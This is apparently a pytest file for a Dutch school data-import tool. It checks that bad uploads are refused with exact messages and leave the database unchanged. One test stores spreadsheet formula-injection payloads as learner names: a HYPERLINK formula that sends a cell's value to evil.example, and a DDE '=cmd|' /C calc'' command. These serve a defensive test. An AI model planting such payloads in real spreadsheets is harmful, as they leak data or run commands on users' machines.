"""Bad files, as schools really upload them: for each one, the exact Dutch message a person sees,
and a database with exactly the rows it had before (only the audit log may grow).

The files are in tests/data/bad/ (written by make_corpus.py there). Results and needs files name
learners by placeholder ({L1}, {L2}, {L3}); the demo school's stamboeknummers go in their place.
"""

from __future__ import annotations

import gc
import io
import re
import tomllib
import weakref
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest

from app.admin import stats
from app.auth import COMMAND_LINE
from app.db import Database
from app.errors import UserError
from app.i18n import Translator
from app.importing import pipeline
from app.importing.journal import Counts
from app.importing.reading import ReadError
from app.scope import EVERYTHING
from tests.conftest import SAMPLES, SAMPLES_BY_KIND

CORPUS = Path(__file__).parent / "data" / "bad"
SCHOOL_YEAR = "2026-2027"
T = Translator("nl")

REFUSED = ("Het bestand is geweigerd (problemen: {problems}, rijen met een probleem: {rows}). "
           "Er is niets gewijzigd. Verbeter het bestand, of kies ervoor alleen de juiste rijen "
           "te importeren.")
NOT_READY = "De import is nog niet klaar: koppel eerst alle verplichte kolommen."
NOT_A_TABLE = "Laad een CSV- of Excel-bestand op."
SAVE_AS_UTF8 = "Bewaar het bestand opnieuw als 'CSV UTF-8'."
DAMAGED = "Het Excel-bestand is beschadigd of beveiligd met een wachtwoord."
ARCHIVE = ("Dit is een archief (zip), geen Excel-bestand. Pak het uit en laad het bestand zelf "
           "op.")
DOCUMENT = f"Dit is een document, geen tabel. {NOT_A_TABLE}"
PROGRAM = "Dit is een programma, geen tabel. Het is geweigerd."
SEPARATOR_HINT = "Staat er een scheidingsteken in een waarde zonder aanhalingstekens?"
PERIODS = "(Trimester 1, Trimester 2, Trimester 3)"
UNKNOWN_LEARNER = "is geen gekende leerling (stamboeknummer niet gevonden)"
SUBJECT_NEEDED = "een vak is nodig voor remediëring en verdieping"
SCIENTIFIC = ("staat in wetenschappelijke notatie: Excel heeft de kolom als getal gelezen en "
              "cijfers weggelaten. Zet die kolom in Excel op 'Tekst' (Celeigenschappen › Getal › "
              "Tekst), vul de nummers opnieuw in of exporteer opnieuw, en laad het bestand dan op")
TOO_LONG = "is te lang voor een nummer (hoogstens 15 tekens)"
BIRTH = ("is geen geboortedatum van een leerling in het secundair (geboortejaar van 2001 tot "
         "2016)")
MAX_1000 = "heeft een maximum boven 1000: dat is geen punt van een puntenboek"


@dataclass(frozen=True)
class Case:
    file: str
    kind: str
    message: str = ""                    # the reason an unreadable file is refused, or the
                                         # mapping step's warning
    missing: tuple[str, ...] = ()        # required fields that found no column
    lines: tuple[str, ...] = ()          # every row problem, as shown, in order
    sheet: str | None = None


def case(*args, marks=(), **kwargs):
    made = Case(*args, **kwargs)
    return pytest.param(made, id=made.file, marks=marks)


# -- the corpus, with what a person is told ------------------------------------------------------

UNREADABLE = [
    case("leeg.csv", "learners", "Het bestand is leeg."),
    case("alleen-bom.csv", "learners", "Het bestand is leeg."),
    case("afbeelding-png.csv", "learners", f"Dit is een afbeelding, geen tabel. {NOT_A_TABLE}"),
    case("pdf.csv", "learners",
         "Dit is een PDF, geen tabel. Exporteer de gegevens als CSV of Excel en laad dat op."),
    case("programma-linux-elf.csv", "learners", PROGRAM),
    case("programma-windows-exe.csv", "learners", PROGRAM),
    case("rtf-document.csv", "learners", DOCUMENT),
    case("word-document.xls", "learners", DOCUMENT),
    case("zip-geen-xlsx.xlsx", "learners", ARCHIVE),
    case("gzip.csv", "learners", ARCHIVE),
    case("nul-bytes-na-crash.csv", "learners",
         f"Dit is geen tekstbestand of rekenblad. {NOT_A_TABLE}"),
    case("xlsx-afgebroken.xlsx", "learners", DAMAGED),
    case("xlsx-met-wachtwoord.xlsx", "learners", DAMAGED),
    case("leerlingen-tabblad.xlsx", "learners",
         "Er is geen tabblad 'Bestaat niet'. Tabbladen in dit bestand: Leerlingen, Klassen.",
         sheet="Bestaat niet"),
    case("leerlingen-titelrij.xlsx", "learners",
         "Rij 3 heeft ingevulde cellen voorbij de 1 kolommen van de kopregel (rij 1). Staat er "
         "een titel of een opmerking boven de kopregel? Haal die weg."),
    case("aanhalingsteken-slikt-rijen.csv", "learners",
         "Vanaf rij 3 staat een aanhalingsteken open dat pas rijen later sluit: die rijen "
         "zouden in één cel verdwijnen. Kijk die rij na in het bestand."),
    case("aanhalingsteken-open.csv", "learners",
         "Vanaf rij 3 wordt een aanhalingsteken niet afgesloten. Kijk die rij na in het bestand."),
    case("sep-regel-aanhalingsteken.csv", "learners",
         "Vanaf rij 4 wordt een aanhalingsteken niet afgesloten. Kijk die rij na in het bestand."),
    case("te-veel-velden.csv", "learners",
         f"Rij 3 heeft 5 velden, terwijl de kopregel 4 kolommen heeft. {SEPARATOR_HINT}"),
    case("reuzeveld.csv", "learners",
         "Rij 3 bevat een veld van meer dan 100.000 tekens. Dat is geen schoolgegeven: kijk het "
         "bestand na."),
    case("gemengde-codering.csv", "learners",
         "Het bestand mengt twee tekencoderingen (rij 2 is UTF-8, rij 3 niet): waarschijnlijk "
         "zijn twee exports samengevoegd. Bewaar het opnieuw als 'CSV UTF-8'."),
    case("bom-maar-windows1252.csv", "learners",
         f"Rij 3 bevat tekens die niet in utf-8 geschreven zijn. {SAVE_AS_UTF8}"),
    case("dos-cp850.csv", "learners",
         f"Rij 2 bevat tekens die niet in cp1252 geschreven zijn. {SAVE_AS_UTF8}"),
    case("utf16-afgebroken.csv", "learners",
         f"Rij 2 bevat tekens die niet in utf-16 geschreven zijn. {SAVE_AS_UTF8}"),
]

UNMAPPED = [
    case("spaties-als-scheidingsteken.csv", "learners",
         "Deze verplichte velden vinden geen kolom: Naam, Voornaam, Klas. Kies de juiste kolom "
         "hieronder.", missing=("last_name", "first_name", "class_code")),
    case("sep-komma-maar-puntkomma.csv", "learners",
         "Deze verplichte velden vinden geen kolom: Naam, Voornaam, Klas. Kies de juiste kolom "
         "hieronder.", missing=("last_name", "first_name", "class_code")),
    case("leerlingen-zonder-klas.csv", "learners",
         "Deze verplichte velden vinden geen kolom: Klas. Kies de juiste kolom hieronder.",
         missing=("class_code",)),
]

# Files with wrong rows, and every problem a person is told, in order: the table lives beside
# the files, in tests/data/bad/refused_rows.toml. There, {L1} ... are the demo school's numbers
# (see fill) and {PERIODS}, {BIRTH} ... the shared texts above.
SHARED_TEXTS = {"PERIODS": PERIODS, "UNKNOWN_LEARNER": UNKNOWN_LEARNER,
                "SUBJECT_NEEDED": SUBJECT_NEEDED, "SCIENTIFIC": SCIENTIFIC, "TOO_LONG": TOO_LONG,
                "BIRTH": BIRTH, "MAX_1000": MAX_1000}


def _with_shared_texts(line: str) -> str:
    for name, text in SHARED_TEXTS.items():
        line = line.replace(f"{{{name}}}", text)
    return line


def _refused_rows() -> list:
    table = tomllib.loads((CORPUS / "refused_rows.toml").read_text(encoding="utf-8"))
    return [case(file, spec["kind"], lines=tuple(map(_with_shared_texts, spec["lines"])))
            for file, spec in table.items()]


REFUSED_ROWS = _refused_rows()

# Files that read well but are not files for the chosen import: refused as a whole, plainly.
REFUSED_FILES = [
    case("leerlingen-alleen-kopregel.csv", "learners",
         "Het bestand heeft alleen een kopregel (5 kolommen) en geen enkele rij met gegevens. Er "
         "is niets geïmporteerd. Was de export leeg, of is het verkeerde tabblad gekozen?"),
    case("leerlingen-gekozen-als-personeel.csv", "staff",
         "Dit lijkt geen bestand voor 'Personeel' maar voor 'Leerlingen (Smartschool, "
         "Informat)' (herkend aan: Klas). Kies 'Leerlingen (Smartschool, Informat)' bij 'Wat "
         "laad je op?' (op de opdrachtregel: import learners). Er is niets geïmporteerd."),
    case("personeel-gekozen-als-leerlingen.csv", "learners",
         "Dit lijkt geen bestand voor 'Leerlingen (Smartschool, Informat)' maar voor "
         "'Personeel' (herkend aan: Personeelsnummer). Kies 'Personeel' bij 'Wat laad je op?' "
         "(op de opdrachtregel: import staff). Er is niets geïmporteerd."),
    case("resultaten-gekozen-als-leerlingen.csv", "learners",
         "Dit lijkt geen bestand voor 'Leerlingen (Smartschool, Informat)' maar voor "
         "'Resultaten (puntenboek)' (herkend aan: Vak, Periode, Punt). Kies 'Resultaten "
         "(puntenboek)' bij 'Wat laad je op?' (op de opdrachtregel: import results). Er is "
         "niets geïmporteerd."),
]

ALL_CASES = [p.values[0] for p in UNREADABLE + UNMAPPED + REFUSED_ROWS + REFUSED_FILES]
OTHER_FILES = {
    "leerlingen-identieke-dubbele-rij.csv",
    "leerlingen-formules-in-naam.csv", "leerlingen-dubbele-kolomnaam.csv",
    "enquete-ms-forms-dubbelzinnige-datums.csv",
}


# -- helpers -----------------------------------------------------------------------------------

def placeholders(db: Database) -> dict[str, str]:
    keys = sorted(db.read("import/learner_keys")["external_id"])
    staff = sorted(db.read("import/staff_keys")["external_id"])
    return {"{L1}": keys[0], "{L2}": keys[1], "{L3}": keys[2], "{S1}": staff[0]}


def fill(text: str, ids: dict[str, str]) -> str:
    for placeholder, external_id in ids.items():
        text = text.replace(placeholder, external_id)
    return text


def corpus_file(name: str, db: Database) -> bytes:
    """The file's bytes, with the demo school's stamboeknummers for the placeholders."""
    data = (CORPUS / name).read_bytes()
    ids = placeholders(db)
    if name.endswith(".xlsx") and name.startswith(("resultaten", "noden")):
        book = openpyxl.load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        cell.value = fill(cell.value, ids)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()
    return fill(data.decode("latin-1"), ids).encode("latin-1")  # bytes kept as they are


def data_counts(db: Database) -> dict[str, int]:
    """Rows per entity, without the audit log (a refusal is logged on purpose)."""
    counts = stats.counts(db)
    counts.pop("audit_entries")
    return counts


def prepare(db: Database, item: Case) -> pipeline.Prepared:
    return pipeline.prepare(db, COMMAND_LINE, item.kind, item.file, corpus_file(item.file, db),
                            sheet=item.sheet)


def commit(db: Database, prepared: pipeline.Prepared) -> pipeline.ImportResult:
    return pipeline.commit(db, COMMAND_LINE, prepared)


@dataclass
class Outcome:
    """What a person is told about one upload, and what trying to import it did."""

    ids: dict[str, str]                          # the placeholders' stamboeknummers
    unreadable: str | None = None                # the file refused as a whole
    refused_file: str | None = None              # read, but not a file for this import
    missing: tuple[str, ...] = ()                # the mapping step is shown
    asks_date_order: bool = False                # the date-order question is shown
    lines: list[str] = field(default_factory=list)       # every row problem, rendered
    refusal: str | None = None                   # what committing anyway said
    changed: dict[str, tuple[int, int]] = field(default_factory=dict)   # before, after


def attempt(path: Path, item: Case) -> Outcome:
    """Upload a corpus file into the demo school and then try to import it, as the page and the
    command line do. Only plain values come back: a failing (or expected-to-fail) test must not
    hold the database in its traceback, or DuckDB's bindings report it leaked at exit."""
    with Database(path) as db:
        outcome = Outcome(ids=placeholders(db))
        before = data_counts(db)
        try:
            prepared = prepare(db, item)
        except ReadError as error:
            outcome.unreadable = error.render(T)
        except pipeline.FileRefused as error:
            outcome.refused_file = error.render(T)
        else:
            outcome.missing = tuple(prepared.missing)
            outcome.asks_date_order = prepared.needs_date_order
            outcome.lines = [pipeline.render_problem(p, T) for p in prepared.problems]
            try:
                commit(db, prepared)
            except UserError as error:
                outcome.refusal = error.render(T)
        after = data_counts(db)
    outcome.changed = {k: (before[k], after[k]) for k in before if after[k] != before[k]}
    return outcome


def done(result: pipeline.ImportResult) -> str:
    """What the page says after importing."""
    return T("import.ui.done", new=T.count(result.counts.new),
             updated=T.count(result.counts.updated),
             unchanged=T.count(result.counts.unchanged), refused=T.count(result.refused))


def stored_learners(db: Database, prefix: str) -> list[tuple[str, str, str, str]]:
    frame = db.read("export/learners", scope=EVERYTHING, school_year=SCHOOL_YEAR)
    frame = frame[frame["external_id"].str.startswith(prefix)].sort_values("external_id")
    return list(frame[["external_id", "last_name", "first_name", "class_code"]]
                .itertuples(index=False, name=None))


# -- files that cannot be read at all ------------------------------------------------------------

@pytest.mark.parametrize("item", UNREADABLE)
def test_unreadable_file_is_refused_with_a_message_and_writes_nothing(demo_path, item):
    outcome = attempt(demo_path, item)
    assert outcome.unreadable == item.message
    assert T("import.ui.unreadable", file=item.file, reason=outcome.unreadable) == \
        f"{item.file} kon niet gelezen worden: {item.message}"
    assert outcome.changed == {}


# -- files whose columns cannot be found ---------------------------------------------------------

@pytest.mark.parametrize("item", UNMAPPED)
def test_file_without_required_columns_asks_for_the_mapping_and_writes_nothing(demo_path,
                                                                                 item):
    outcome = attempt(demo_path, item)
    assert outcome.unreadable is None
    assert outcome.missing == item.missing
    assert T("import.ui.missing", fields=", ".join(T(f"field.{name}")
                                                   for name in outcome.missing)) == item.message
    assert outcome.refusal == NOT_READY
    assert outcome.changed == {}


def test_ambiguous_forms_dates_ask_for_the_date_order_and_write_nothing(demo_path):
    outcome = attempt(demo_path, Case("enquete-ms-forms-dubbelzinnige-datums.csv", "survey"))
    assert (outcome.unreadable, outcome.missing) == (None, ())
    assert outcome.asks_date_order
    assert T("import.ui.date_order") == "Hoe staan de datums in dit bestand?"
    assert outcome.refusal == NOT_READY
    assert outcome.changed == {}


# -- files with wrong rows -----------------------------------------------------------------------

@pytest.mark.parametrize("item", REFUSED_ROWS)
def test_rows_with_problems_are_named_and_nothing_is_written(demo_path, item):
    outcome = attempt(demo_path, item)
    assert (outcome.unreadable, outcome.missing, outcome.asks_date_order) == (None, (), False)
    expected = [fill(line, outcome.ids) for line in item.lines]
    assert outcome.lines == expected
    rows = {re.match(r"rij (\d+),", line).group(1) for line in expected}
    assert outcome.refusal == REFUSED.format(problems=len(expected), rows=len(rows))
    assert outcome.changed == {}


# -- files that read, but are not for this import ------------------------------------------------

@pytest.mark.parametrize("item", REFUSED_FILES)
def test_file_of_another_kind_or_without_rows_is_refused_plainly_and_writes_nothing(demo_path,
                                                                                    item):
    """A learner list chosen as staff used to import as staff; a header-only file used to be
    'imported' with 0 rows and an entry in the import log."""
    outcome = attempt(demo_path, item)
    assert outcome.unreadable is None
    assert outcome.refused_file == item.message
    assert pipeline.refusal(pipeline.FileRefused("import.error.no_rows", columns=5),
                            item.file, T).startswith(f"{item.file} is niet geïmporteerd: ")
    assert outcome.changed == {}


SAMPLE_KINDS = {name: kind for kind, names in SAMPLES_BY_KIND.items() for name in names}


def test_every_sample_export_is_taken_for_its_own_kind_and_refused_as_another():
    """The recognition of a file's kind from its columns refuses no real export for its own
    kind, and names its own kind when another is chosen (a survey takes any table)."""
    from app.importing.reading import read_table
    from app.importing.specs import REGISTRY

    assert {p.name for p in SAMPLES.iterdir()} == set(SAMPLE_KINDS)
    for name, own in SAMPLE_KINDS.items():
        header = read_table((SAMPLES / name).read_bytes()).header
        assert pipeline.kind_of_columns(own, header) is None, name
        for other in REGISTRY:
            found = pipeline.kind_of_columns(other, header)
            if other != own and own != "survey" and other != "survey":
                assert found is not None and found[0] == own, (name, other, found)


# -- files that are odd but fine -------------------------------------------------------------------


def test_identical_duplicate_rows_import_once(demo_db):
    before = data_counts(demo_db)
    prepared = prepare(demo_db, Case("leerlingen-identieke-dubbele-rij.csv", "learners"))
    assert (prepared.problems, prepared.built.notes) == ([], [])
    assert prepared.counts == Counts(new=2, updated=0, unchanged=0)
    assert done(commit(demo_db, prepared)) == \
        "Geïmporteerd: 2 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
    assert stored_learners(demo_db, "99901") == [
        ("9990101", "Peeters", "Jan", "1A"), ("9990102", "Maes", "An", "1B")]
    after = data_counts(demo_db)
    assert after == {**before, "learners": before["learners"] + 2,
                     "learners_current": before["learners_current"] + 2,
                     "imports": before["imports"] + 1}


def test_formula_like_names_are_stored_exactly_as_text(demo_db):
    prepared = prepare(demo_db, Case("leerlingen-formules-in-naam.csv", "learners"))
    assert (prepared.problems, prepared.built.notes) == ([], [])
    assert done(commit(demo_db, prepared)) == \
        "Geïmporteerd: 5 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
    assert stored_learners(demo_db, "99903") == [
        ("9990301", '=HYPERLINK("http://evil.example/?x="&A1;"klik")', "Jan", "1A"),
        ("9990302", "+1", "An", "1A"),
        ("9990303", "-2", "Tom", "1B"),
        ("9990304", "@SUM(A1:A2)", "Lies", "1B"),
        ("9990305", "Peeters", "=cmd|' /C calc'!A0", "1C"),
    ]


def test_duplicate_column_name_stores_the_first_column(demo_db):
    """Two columns named Naam (the learner's, then a relation's): the first is the learner's,
    as the mapping step shows; the relation's name must not end up in the learner's record."""
    prepared = prepare(demo_db, Case("leerlingen-dubbele-kolomnaam.csv", "learners"))
    assert prepared.mapping["last_name"] == "Naam"
    assert (prepared.problems, prepared.built.notes) == ([], [])
    assert done(commit(demo_db, prepared)) == \
        "Geïmporteerd: 1 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
    assert stored_learners(demo_db, "99904") == [("9990401", "Peeters", "Jan", "1A")]


def test_an_upload_with_a_wrong_value_leaves_nothing_behind_in_memory(demo_path):
    db = Database(demo_path)
    database = weakref.ref(db)
    prepared = prepare(db, Case("resultaten-geen-getal.csv", "results"))
    assert [p.reason for p in prepared.problems] == ["value.not_a_number"]
    db.close()
    del db, prepared
    gc.collect()
    assert database() is None


# -- the corpus itself -----------------------------------------------------------------------------

def test_every_file_in_the_corpus_has_a_case():
    on_disk = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix not in (".py", ".toml")}
    named = [c.file for c in ALL_CASES] + sorted(OTHER_FILES)
    assert len(named) == len(set(named)), "a file has two cases"
    assert on_disk == set(named)
    assert len(on_disk) >= 50
